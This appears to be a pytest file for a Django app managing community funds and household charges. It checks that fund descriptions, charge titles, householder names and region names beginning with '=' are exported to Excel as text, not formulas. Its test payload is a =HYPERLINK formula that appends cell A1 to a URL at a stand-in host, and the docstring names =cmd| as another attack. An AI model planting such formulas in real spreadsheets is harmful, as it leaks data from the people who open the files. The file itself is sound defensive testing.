"""Stored injection into the spreadsheets staff download: a text someone typed that begins with "=" must reach
Excel as text, never as a formula (=HYPERLINK, =cmd|… are the classic attacks on exported ledgers)."""

import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from tests import builders
from yishi.funds import services as funds
from yishi.people.models import Membership
from yishi.regions.models import Level
from yishi.regions.services import create_region

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


def cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_text_only(content: bytes, expected: str):
    found = [c for c in cells(content) if c.value == expected]
    assert found, f"{expected!r} is not in the spreadsheet"
    assert all(c.data_type == "s" for c in found)
    assert not [c.coordinate for c in cells(content) if c.data_type == "f"]


@pytest.fixture
def compound(db):
    t = builders.tree()
    secretary = builders.person("张金利")
    builders.role(secretary, "committee", t.community)
    building = create_region(actor=None, parent=t.compound, level=Level.BUILDING, name="3号楼")
    home = builders.household(building, room="101")
    head = builders.person(FORMULA[:50])
    Membership.objects.create(person=head, household=home, is_head=True)
    return t, secretary, home


def test_the_public_ledger_keeps_a_description_beginning_with_equals_as_text(compound, client):
    t, secretary, _home = compound
    funds.record_fund_entry(
        actor=secretary,
        compound=t.compound,
        kind="income",
        amount="10.00",
        occurred_on=timezone.localdate(),
        description=FORMULA[:100],
        evidence_text=FORMULA,
    )
    response = client.get(f"/r/{t.compound.pk}/funds/ledger.xlsx")
    assert response.status_code == 200
    assert_text_only(response.content, FORMULA)


def test_the_charges_list_keeps_a_householders_name_beginning_with_equals_as_text(compound, client):
    t, secretary, _home = compound
    rule = funds.create_charge_rule(
        actor=secretary,
        compound=t.compound,
        title=FORMULA[:100],
        period_start=datetime.date(2025, 1, 1),
        period_end=datetime.date(2025, 12, 31),
        method="occupancy",
        occupied_amount="150.00",
        vacant_amount="100.00",
    )
    funds.issue_charges(actor=secretary, rule=rule)
    client.force_login(secretary)
    response = client.get(f"/funds/rules/{rule.pk}/charges.xlsx")
    assert response.status_code == 200
    # The rule's title heads each sheet; the householder's name is on their row.
    assert not [c.coordinate for c in cells(response.content) if c.data_type == "f"]
    texts = [c.value for c in cells(response.content) if c.data_type == "s"]
    assert any(text.startswith("=HYPERLINK") for text in texts)


def test_the_figures_keep_a_region_name_beginning_with_equals_as_text(db, client):
    t = builders.tree()
    create_region(actor=None, parent=t.street, level=Level.COMMUNITY, name="=1+2")
    bureau = builders.person("民政局科员")
    builders.role(bureau, "bureau", t.district)
    client.force_login(bureau)
    response = client.get(f"/figures/r/{t.street.pk}/figures.xlsx")
    assert response.status_code == 200
    assert_text_only(response.content, "=1+2")
